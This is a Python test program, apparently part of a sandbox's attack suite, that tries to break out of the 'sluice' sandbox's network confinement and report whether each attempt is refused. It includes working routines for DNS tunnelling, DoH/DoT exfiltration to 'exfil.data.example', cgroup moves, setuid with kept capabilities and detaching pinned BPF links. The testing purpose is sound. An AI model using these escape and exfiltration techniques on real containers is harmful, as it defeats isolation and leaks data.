#!/usr/bin/env python3
"""The hostile program of the attack suite: runs inside the sandbox (under
`sluice run`), makes one attempt and prints its outcome as one JSON line:

  {"op": OP, "result": "ok" | errno name | "refused" | ..., "detail": ...}

  quic ADDR PORT                 a QUIC v1 Initial-shaped datagram (HTTP/3)
  doh ADDR SNI                   DNS over HTTPS: TLS to ADDR:443 with SNI, GET /dns-query
  doh-connect NAME               the same through the proxy: CONNECT NAME:443
  dot ADDR                       DNS over TLS to ADDR:853
  dns ADDR NAME                  plain DNS (UDP) to ADDR:53
  tunnel N SUFFIX                N A queries for <random 50-char label>.SUFFIX
  ws ADDR PORT PATH              websocket upgrade (transparent: the kernel redirects)
  sni-raw ADDR PORT HEX          a ClientHello whose SNI is the bytes HEX
  comm HEX ADDR PORT             rename itself (PR_SET_NAME) to the bytes HEX, then TCP connect
  bpf                            bpf(2): load a program, get links/progs/maps by id
  bpffs                          look for pinned links: /sys/fs/bpf, mount a bpffs
  proc-root PID                  read /proc/PID/root/sys/fs/bpf (another process's mount namespace)
  cgroup-move PATH ADDR PORT     write own pid to PATH/cgroup.procs, then TCP connect
  setuid-escape PID CG2 ADDR PORT   become PID's uid keeping capabilities, reach the
                                 host's cgroup2 through /proc/PID/root, move out, connect
  setuid-detach PID NAME ADDR PORT  same, then BPF_OBJ_GET + BPF_LINK_DETACH the
                                 sandbox NAME's pinned links, connect
  unix PATH                      connect to a unix socket, send a line, read the answer
  recv-fd PATH                   receive a socket over SCM_RIGHTS from PATH, send on it
  recv-fd-udp PATH ADDR PORT     receive a UDP socket over SCM_RIGHTS from PATH, sendto ADDR:PORT on it
  vsock                          create an AF_VSOCK socket (no connection)
  families                       create a socket of each family sluice judges at socket()
                                 (vsock, packet, netlink generic, netlink route); one line
                                 {"op": "families", "result": {NAME: "created" | errno name}}
"""
import base64
import ctypes
import errno
import json
import os
import random
import socket
import ssl
import struct
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "integration"))
import dnswire  # noqa: E402

libc = ctypes.CDLL(None, use_errno=True)
OP = sys.argv[1] if len(sys.argv) > 1 else "?"


def out(result, **detail):
    print(json.dumps(dict(op=OP, result=result, **detail)), flush=True)
    sys.exit(0)


def ename(e):
    return errno.errorcode.get(e, "E%d" % e) if isinstance(e, int) else str(e)


def oserr(e):
    if isinstance(e, socket.timeout):
        return "ETIMEDOUT"
    if isinstance(e, ssl.SSLError):
        return "tls_error"
    return ename(e.errno) if getattr(e, "errno", None) else type(e).__name__


def tcp(addr, port, timeout=5):
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect((addr, int(port)))
    return s


def recv_all(s, limit=65536):
    data = b""
    try:
        while len(data) < limit:
            d = s.recv(4096)
            if not d:
                break
            data += d
    except (socket.timeout, OSError):
        pass
    return data


def status_of(raw):
    try:
        line = raw.split(b"\r\n", 1)[0].decode("latin-1")
        return int(line.split()[1])
    except (IndexError, ValueError):
        return None


def header(raw, name):
    for l in raw.split(b"\r\n\r\n", 1)[0].split(b"\r\n")[1:]:
        k, _, v = l.decode("latin-1").partition(":")
        if k.strip().lower() == name:
            return v.strip()
    return None


def proxy_addr():
    url = os.environ.get("SLUICE_PROXY", "")
    hostport = url.split("://", 1)[-1].rstrip("/")
    host, _, port = hostport.rpartition(":")
    return host.strip("[]"), int(port)


def doh_request(name):
    q = dnswire.build_query(name, "A", qid=0x4242)
    b = base64.urlsafe_b64encode(q).rstrip(b"=").decode()
    return ("GET /dns-query?dns=%s HTTP/1.1\r\nHost: resolver\r\nAccept: application/dns-message\r\n"
            "Connection: close\r\n\r\n" % b).encode()


def tls_wrap(sock, sni):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx.wrap_socket(sock, server_hostname=sni)


def op_quic(addr, port):
    # long header, Initial, version 1, DCID 8 bytes, padded to 1200 bytes (RFC 9000 14.1)
    pkt = bytes([0xc3]) + struct.pack("!I", 1) + b"\x08" + os.urandom(8) + b"\x00" + b"\x00"
    pkt += os.urandom(1200 - len(pkt))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(pkt, (addr, int(port)))
    except OSError as e:
        out(oserr(e))
    try:
        d = s.recv(2048)
        out("ok", reply=len(d))
    except OSError:
        out("sent", reply=0)


def op_doh(addr, sni):
    try:
        t = tls_wrap(tcp(addr, 443), sni)
        t.sendall(doh_request("exfil.data.example"))
        raw = recv_all(t)
    except (OSError, ssl.SSLError) as e:
        out(oserr(e))
    out("ok" if status_of(raw) == 200 else "refused", status=status_of(raw))


def op_doh_connect(name):
    try:
        s = tcp(*proxy_addr())
        s.sendall(("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (name, name)).encode())
        head = b""
        while b"\r\n\r\n" not in head:
            d = s.recv(1)
            if not d:
                break
            head += d
    except OSError as e:
        out(oserr(e))
    st = status_of(head)
    if st != 200:
        out("refused", status=st, denied=header(head, "x-sluice-denied"))
    try:
        t = tls_wrap(s, name)
        t.sendall(doh_request("exfil.data.example"))
        raw = recv_all(t)
    except (OSError, ssl.SSLError) as e:
        out(oserr(e), status=st)
    out("ok" if status_of(raw) == 200 else "refused", status=status_of(raw))


def op_dot(addr):
    q = dnswire.build_query("exfil.data.example", "A", qid=0x4343)
    try:
        t = tls_wrap(tcp(addr, 853), "dns.resolver.example")
        t.sendall(struct.pack("!H", len(q)) + q)
        n = struct.unpack("!H", t.recv(2))[0]
        r = dnswire.parse(t.recv(n))
    except (OSError, ssl.SSLError, struct.error) as e:
        out(oserr(e))
    out("ok", answers=[a["data"] for a in r["answers"]])


def op_dns(addr, name):
    try:
        raw = dnswire.udp_ask(addr, 53, dnswire.build_query(name, "A", qid=0x4444), timeout=3)
    except OSError as e:
        out(oserr(e))
    if raw is None:
        out("ETIMEDOUT")
    r = dnswire.parse(raw)
    out("ok", rcode=r["rcode"], answers=[a["data"] for a in r["answers"]])


def op_tunnel(n, suffix):
    rnd = random.Random(os.getpid())
    rcodes = []
    for i in range(int(n)):
        label = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(50))
        try:
            raw = dnswire.udp_ask("192.0.2.53", 53, dnswire.build_query(label + "." + suffix, "A", qid=i), timeout=3)
            rcodes.append(dnswire.parse(raw)["rcode"] if raw else "ETIMEDOUT")
        except OSError as e:
            rcodes.append(oserr(e))
    out("ok", rcodes=rcodes)


def op_ws(addr, port, path):
    req = ("GET %s HTTP/1.1\r\nHost: api.example.com:%s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n" % (path, port))
    try:
        s = tcp(addr, port)
        s.sendall(req.encode())
        head = b""
        while b"\r\n\r\n" not in head:
            d = s.recv(1)
            if not d:
                break
            head += d
        st = status_of(head)
        echoed = None
        if st == 101:
            s.sendall(b"\x81\x05hello")
            s.settimeout(3)
            echoed = recv_all(s, 7).hex()
    except OSError as e:
        out(oserr(e))
    out("upgraded" if st == 101 else "refused", status=st, echoed=echoed,
        error=header(head, "x-sluice-error"), denied=header(head, "x-sluice-denied"))


def client_hello(sni):
    ext = b""
    if sni is not None:
        entry = b"\x00" + struct.pack("!H", len(sni)) + sni
        lst = struct.pack("!H", len(entry)) + entry
        ext = struct.pack("!HH", 0, len(lst)) + lst
    body = b"\x03\x03" + os.urandom(32) + b"\x00" + struct.pack("!H", 2) + b"\xc0\x2f" + b"\x01\x00"
    body += struct.pack("!H", len(ext)) + ext
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def op_sni_raw(addr, port, hexname):
    try:
        s = tcp(addr, port)
        s.sendall(client_hello(bytes.fromhex(hexname)))
        s.settimeout(3)
        d = recv_all(s, 16)
    except OSError as e:
        out(oserr(e))
    out("closed" if not d else "answered", got=d[:5].hex())


def op_comm(hexname, addr, port):
    name = bytes.fromhex(hexname)
    libc.prctl(15, ctypes.c_char_p(name), 0, 0, 0)  # PR_SET_NAME
    try:
        s = tcp(addr, port, timeout=3)
        s.sendall(b"ping\n")
        s.settimeout(3)
        d = s.recv(100)
    except OSError as e:
        out(oserr(e), comm=open("/proc/self/comm", "rb").read().hex())
    out("ok" if d else "closed", echoed=d.hex())


def bpf(cmd, attr):
    buf = ctypes.create_string_buffer(attr, 128)
    r = libc.syscall(321 if os.uname().machine == "x86_64" else 280, cmd, buf, 128)
    return r, (ctypes.get_errno() if r < 0 else 0)


def op_bpf():
    res = {}
    # BPF_PROG_LOAD of a socket filter "r0 = 0; exit"
    insns = ctypes.create_string_buffer(bytes.fromhex("b700000000000000" "9500000000000000"))
    lic = ctypes.create_string_buffer(b"GPL")
    r, e = bpf(5, struct.pack("IIQQ", 1, 2, ctypes.addressof(insns), ctypes.addressof(lic)))
    res["prog_load"] = "ok" if r >= 0 else ename(e)
    # BPF_MAP_CREATE (array)
    r, e = bpf(0, struct.pack("IIII", 2, 4, 4, 1))
    res["map_create"] = "ok" if r >= 0 else ename(e)
    # BPF_{LINK,PROG,MAP}_GET_FD_BY_ID for the first ids: every one refused?
    for name, cmd in (("link_get_fd_by_id", 30), ("prog_get_fd_by_id", 13), ("map_get_fd_by_id", 14)):
        got = set()
        for i in range(1, 200):
            r, e = bpf(cmd, struct.pack("I", i))
            got.add("ok" if r >= 0 else ename(e))
        res[name] = sorted(got)
    # BPF_LINK_GET_NEXT_ID / PROG_GET_NEXT_ID
    r, e = bpf(31, struct.pack("I", 0))
    res["link_get_next_id"] = "ok" if r >= 0 else ename(e)
    ok = res["prog_load"] != "ok" and res["map_create"] != "ok" and \
        all(v == ["EPERM"] for k, v in res.items() if k.endswith("by_id"))
    out("refused" if ok else "allowed", **res)


def op_bpffs():
    res = {}
    try:
        res["ls"] = os.listdir("/sys/fs/bpf")
    except OSError as e:
        res["ls"] = oserr(e)
    src = ctypes.c_char_p(b"bpf")
    for target in ("/sys/fs/bpf", "/tmp"):
        r = libc.mount(src, ctypes.c_char_p(target.encode()), ctypes.c_char_p(b"bpf"), 0, None)
        res["mount " + target] = "ok" if r == 0 else ename(ctypes.get_errno())
        if r == 0:
            libc.umount2(ctypes.c_char_p(target.encode()), 2)
    pins = [p for p in (res["ls"] if isinstance(res["ls"], list) else []) if p == "sluice"]
    out("refused" if not pins and all(v != "ok" for k, v in res.items() if k.startswith("mount")) else "allowed", **res)


def op_proc_root(pid):
    p = "/proc/%s/root/sys/fs/bpf" % pid
    try:
        out("allowed", ls=os.listdir(p))
    except OSError as e:
        out(oserr(e))


def connect_result(addr, port):
    try:
        s = tcp(addr, port, timeout=3)
        s.sendall(b"escaped\n")
        d = s.recv(100)
        return "ok", d.decode("latin-1")
    except OSError as e:
        return oserr(e), None


def op_cgroup_move(path, addr, port):
    try:
        with open(os.path.join(path, "cgroup.procs"), "w") as f:
            f.write(str(os.getpid()))
        moved = "ok"
    except OSError as e:
        moved = oserr(e)
    res, echo = connect_result(addr, port)
    out(res, moved=moved, cgroup=open("/proc/self/cgroup").read().strip().splitlines()[-1])


class CapHdr(ctypes.Structure):
    _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]


class CapData(ctypes.Structure):
    _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32), ("inheritable", ctypes.c_uint32)]


def become(uid, gid):
    """setresuid/setresgid to uid/gid keeping the permitted capabilities,
    and raise them all to effective again."""
    libc.prctl(8, 1, 0, 0, 0)  # PR_SET_KEEPCAPS
    if libc.setresgid(gid, gid, gid) or libc.setresuid(uid, uid, uid):
        return ename(ctypes.get_errno())
    hdr, data = CapHdr(0x20080522, 0), (CapData * 2)()
    libc.capget(ctypes.byref(hdr), data)
    for d in data:
        d.effective = d.permitted
    if libc.capset(ctypes.byref(hdr), data):
        return ename(ctypes.get_errno())
    return "ok"


def victim_ids(pid):
    """uid and gid of host process `pid`, or None when the sandbox cannot
    see it (sluice run gives CMD its own pid namespace and /proc)."""
    try:
        st = open("/proc/%s/status" % pid).read()
    except OSError:
        return None
    uid = int(st.split("Uid:")[1].split()[0])
    gid = int(st.split("Gid:")[1].split()[0])
    return uid, gid


def op_setuid_escape(pid, cg2, addr, port):
    ids = victim_ids(pid)
    if ids is None:
        res, echo = connect_result(addr, port)
        return out(res, victim="ENOENT")
    uid, gid = ids
    steps = {"become": become(uid, gid)}
    try:
        with open("/proc/%s/root%s/cgroup.procs" % (pid, cg2), "w") as f:
            f.write(str(os.getpid()))
        steps["move"] = "ok"
    except OSError as e:
        steps["move"] = oserr(e)
    res, echo = connect_result(addr, port)
    out(res, cgroup=open("/proc/self/cgroup").read().strip().splitlines()[-1], **steps)


def op_setuid_detach(pid, name, addr, port):
    ids = victim_ids(pid)
    if ids is None:
        res, echo = connect_result(addr, port)
        return out(res, victim="ENOENT", detached=[])
    uid, gid = ids
    steps = {"become": become(uid, gid), "detached": []}
    pins = "/proc/%s/root/sys/fs/bpf/sluice/%s" % (pid, name)
    try:
        links = sorted(p for p in os.listdir(pins) if p.startswith("link_"))
    except OSError as e:
        links = []
        steps["pins"] = oserr(e)
    for l in links:
        path = ctypes.create_string_buffer(os.path.join(pins, l).encode())
        fd, e = bpf(7, struct.pack("QII", ctypes.addressof(path), 0, 0))  # BPF_OBJ_GET
        if fd < 0:
            steps.setdefault("obj_get", set()).add(ename(e))
            continue
        r, e = bpf(34, struct.pack("I", fd))  # BPF_LINK_DETACH
        if r == 0:
            steps["detached"].append(l)
        os.close(fd)
    if "obj_get" in steps:
        steps["obj_get"] = sorted(steps["obj_get"])
    res, echo = connect_result(addr, port)
    out(res, **steps)


def op_unix(path):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(path)
        s.sendall(b"hello from the sandbox\n")
        d = s.recv(100)
    except OSError as e:
        out(oserr(e))
    out("ok", reply=d.decode("latin-1"))


def op_recv_fd(path):
    try:
        u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        u.settimeout(5)
        u.connect(path)
        msg, fds, flags, addr = socket.recv_fds(u, 16, 1)
        t = socket.socket(fileno=fds[0])
        t.settimeout(3)
        t.sendall(b"passed in\n")
        d = t.recv(100)
    except (OSError, IndexError) as e:
        out(oserr(e) if isinstance(e, OSError) else "no_fd")
    out("ok", echoed=d.decode("latin-1"))


def op_recv_fd_udp(path, addr, port):
    try:
        u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        u.settimeout(5)
        u.connect(path)
        msg, fds, flags, _ = socket.recv_fds(u, 16, 1)
        s = socket.socket(fileno=fds[0])
        s.sendto(b"passed in udp\n", (addr, int(port)))
    except (OSError, IndexError) as e:
        out(oserr(e) if isinstance(e, OSError) else "no_fd")
    out("ok")


FAMILIES = {
    "vsock": (socket.AF_VSOCK, socket.SOCK_STREAM, 0),
    "packet": (socket.AF_PACKET, socket.SOCK_DGRAM, 0),
    "netlink-generic": (socket.AF_NETLINK, socket.SOCK_RAW, 16),   # NETLINK_GENERIC
    "netlink-route": (socket.AF_NETLINK, socket.SOCK_RAW, 0),      # NETLINK_ROUTE: always allowed
}


def op_families():
    got = {}
    for name, (fam, typ, proto) in FAMILIES.items():
        try:
            socket.socket(fam, typ, proto).close()
            got[name] = "created"
        except OSError as e:
            got[name] = oserr(e)
    out(got)


def op_vsock():
    try:
        s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        s.close()
    except OSError as e:
        out(oserr(e))
    out("created")


OPS = {
    "quic": op_quic, "doh": op_doh, "doh-connect": op_doh_connect, "dot": op_dot, "dns": op_dns,
    "tunnel": op_tunnel, "ws": op_ws, "sni-raw": op_sni_raw, "comm": op_comm, "bpf": op_bpf,
    "bpffs": op_bpffs, "proc-root": op_proc_root, "cgroup-move": op_cgroup_move,
    "setuid-escape": op_setuid_escape, "setuid-detach": op_setuid_detach,
    "unix": op_unix, "recv-fd": op_recv_fd, "recv-fd-udp": op_recv_fd_udp, "vsock": op_vsock,
    "families": op_families,
}

if __name__ == "__main__":
    if OP not in OPS:
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    OPS[OP](*sys.argv[2:])
